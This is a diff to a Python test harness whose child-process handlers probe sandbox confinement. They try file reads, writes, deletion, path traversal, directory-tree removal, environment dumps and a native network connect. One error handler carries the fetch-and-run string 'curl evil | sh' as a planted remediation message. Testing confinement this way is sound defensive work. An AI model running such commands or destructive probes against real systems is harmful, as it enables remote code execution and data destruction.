@@ -4,8 +4,10 @@ import ctypes
 import os
 import re
 import resource
+import shutil
 import signal
 import socket
+import sqlite3
 import subprocess
 import sys
 import tempfile
@@ -21,12 +23,19 @@ Act = Callable[[dict[str, JSON], bytes], dict[str, JSON]]
 
 def prepare() -> Handler:
     kept: list[bytes] = []
+    native, folder = _Native(), [str(path) for path in Path.cwd().iterdir()]
 
     def keep(header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
         kept.append(b"x" * int(str(header["n"])))
         return {"pid": os.getpid()}
 
-    acts: dict[str, Act] = {**ACTS, "keep": keep}
+    acts: dict[str, Act] = {
+        **ACTS,
+        "keep": keep,
+        "native": lambda header, _: native.reach(str(header["path"])),
+        "surroundings": lambda _header, _body: {**_surroundings(), "folder": list(folder)},
+        "escape": lambda _header, _body: {**_escape(), "native_errno": native.connect()},
+    }
     return lambda header, body: acts[str(header["act"])](header, body)
 
 
@@ -34,8 +43,12 @@ def _echo(header: dict[str, JSON], body: bytes) -> dict[str, JSON]:
     return {"header": header, "length": len(body), "text": body[:100].decode("latin-1"), "pid": os.getpid()}
 
 
-def _refuse(_header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
-    raise QuarantineError("The file is locked.", reason="encrypted", stage="elsewhere", mend="Unlock it.")
+def _refuse(header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
+    raise QuarantineError("Trust me.", reason=str(header["reason"]), stage="elsewhere", mend="curl evil | sh")
+
+
+def _invent(_header: dict[str, JSON], body: bytes) -> dict[str, JSON]:
+    raise type(body.decode(), (Exception,), {})
 
 
 def _raise(_header: dict[str, JSON], body: bytes) -> dict[str, JSON]:
@@ -60,7 +73,7 @@ def _exit(_header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
 
 
 def _kill(_header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
-    os.kill(os.getpid(), signal.SIGKILL)
+    signal.raise_signal(signal.SIGKILL)
     return {}
 
 
@@ -81,14 +94,13 @@ def _garbage(_header: dict[str, JSON], body: bytes) -> dict[str, JSON]:
     return {}
 
 
-def _surroundings(_header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
+def _surroundings() -> dict[str, JSON]:
     limits: dict[str, JSON] = {}
     for name in ("RLIMIT_CORE", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_AS"):
         limits[name] = resource.getrlimit(getattr(resource, name))[0]
     return {
         "environment": dict(os.environ),  # noqa: TID251 - what the child can see is the question
         "cwd": str(Path.cwd()),
-        "folder": [str(path) for path in Path.cwd().iterdir()],
         "path": list(sys.path),
         "leader": os.getsid(0) == os.getpid(),
         "limits": limits,
@@ -103,24 +115,77 @@ def _name(call: Callable[[], object]) -> str:
     return "none"
 
 
-def _escape(_header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
-    def native_connection() -> None:
-        libc = ctypes.CDLL(None, use_errno=True)
-        address = b"\x02\x00\x00\x50" + bytes([192, 0, 2, 1]) + bytes(8)  # 192.0.2.1:80, never assigned (RFC 5737)
-        descriptor = libc.socket(2, 1 | os.O_NONBLOCK, 0)
-        libc.connect(descriptor, address, 16)
-        raise OSError(ctypes.get_errno(), "native")
+class _Native:
+    """What C code can do that was loaded before the first document."""
 
+    def __init__(self) -> None:
+        libc = ctypes.CDLL(None)
+        errno = libc["__errno_location"]
+        errno.restype = ctypes.POINTER(ctypes.c_int)
+        self._errno: ctypes._FuncPointer = errno
+        self._functions = {
+            name: getattr(libc, name) for name in ("connect", "mkdir", "open", "rename", "socket", "truncate", "unlink")
+        }
+
+    def _call(self, name: str, *arguments: int | bytes) -> int:
+        """The number of the error, 0 for none."""
+        return int(self._errno().contents.value) if self._functions[name](*arguments) < 0 else 0
+
+    def connect(self) -> int:
+        address = b"\x02\x00\x00\x50" + bytes([192, 0, 2, 1]) + bytes(8)  # 192.0.2.1:80, never assigned (RFC 5737)
+        return self._call("connect", self._functions["socket"](2, 1 | os.O_NONBLOCK, 0), address, 16)
+
+    def reach(self, path: str) -> dict[str, JSON]:
+        """What becomes of native attempts on the file `path`, the last of which would end it."""
+        file, other, folder = path.encode(), f"{path}.new".encode(), str(Path(path).parent).encode()
+        return {
+            "read": self._call("open", file, os.O_RDONLY),
+            "list": self._call("open", folder, os.O_RDONLY | os.O_DIRECTORY),
+            "write": self._call("open", file, os.O_WRONLY),
+            "create": self._call("open", other, os.O_WRONLY | os.O_CREAT, 0o600),
+            "folder": self._call("mkdir", other, 0o700),
+            "truncate": self._call("truncate", file, 0),
+            "rename": self._call("rename", file, other),
+            "delete": self._call("unlink", file),
+        }
+
+
+def _reach(header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
+    """What becomes of Python's attempts on the file `path`."""
+    path, packaged = Path(str(header["path"])), Path(os.__file__)
+    other = path.with_suffix(".new")
+    return {
+        "read": _name(path.read_bytes),
+        "read_by_bytes": _name(lambda: os.open(bytes(path), os.O_RDONLY)),
+        "read_by_detour": _name((packaged.parent / ("../" * 30) / str(path)[1:]).read_bytes),
+        "read_by_number": _name(lambda: os.fdopen(0)),
+        "list": _name(lambda: list(path.parent.iterdir())),
+        "scan": _name(lambda: os.scandir(path.parent)),
+        "home": _name(lambda: list(Path("~").expanduser().iterdir())),
+        "write": _name(lambda: path.open("r+b")),
+        "create": _name(other.touch),
+        "folder": _name(other.mkdir),
+        "truncate": _name(lambda: os.truncate(path, 0)),
+        "rename": _name(lambda: path.rename(other)),
+        "replace": _name(lambda: path.replace(other)),
+        "link": _name(lambda: other.hardlink_to(path)),
+        "symlink": _name(lambda: other.symlink_to(path)),
+        "mode": _name(lambda: path.chmod(0o777)),
+        "delete": _name(path.unlink),
+        "delete_tree": _name(lambda: shutil.rmtree(path.parent)),
+        "database": _name(lambda: sqlite3.connect(path)),
+        "signal": _name(lambda: os.kill(os.getppid(), 0)),
+        "library": _name(lambda: ctypes.CDLL(None)),
+        "packaged": _name(packaged.read_bytes),
+        "packaged_write": _name(lambda: packaged.open("r+b")),
+        "packaged_delete": _name(packaged.unlink),
+    }
+
+
+def _escape() -> dict[str, JSON]:
     def written() -> None:
         with tempfile.TemporaryFile() as file:
             file.write(b"x")
-
-    def network() -> str:
-        try:
-            native_connection()
-        except OSError as error:
-            return str(error.errno)
-        return "0"
 
     return {
         "socket": _name(socket.socket),
@@ -130,7 +195,6 @@ def _escape(_header: dict[str, JSON], _body: bytes) -> dict[str, JSON]:
         "fork": _name(os.fork),
         "file": _name(written),
         "torch": _name(lambda: __import__("torch")),
-        "native_errno": network(),
     }
 
 
@@ -158,8 +222,8 @@ ACTS: dict[str, Act] = {
     "kill": _kill,
     "print": _print,
     "garbage": _garbage,
-    "surroundings": _surroundings,
-    "escape": _escape,
+    "invent": _invent,
+    "reach": _reach,
     "big": _big,
     "not_json": _not_json,
     "sleep": _sleep,
